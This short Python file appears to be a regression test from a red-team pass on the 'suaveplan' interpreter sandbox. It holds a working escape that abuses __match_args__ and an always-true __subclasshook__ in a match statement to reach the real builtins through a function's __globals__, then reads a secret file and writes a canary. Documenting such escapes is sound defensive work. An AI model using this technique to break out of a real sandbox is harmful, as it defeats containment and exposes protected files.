# mypy: ignore-errors
# Technique: a decorator turns `def __match_args__` into the tuple ("__globals__",), and an
# ABC `__subclasshook__` makes any subject an instance: the class pattern then reads
# `__globals__` of a runtime function natively, reaching the real builtins (`_b`). Found in
# the red-team pass of the in-interpreter layer; was a real in-interpreter escape before
# the fix.
import typing

from suaveplan import fs


def names(_fn):
    return ("_" + "_globals_" + "_",)


class Any(typing.Callable):
    @names
    def __match_args__(self):
        pass

    def __subclasshook__(c=None, *a):
        return True


def attack(secret_path, canary_path):
    match fs.read_text:
        case Any(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
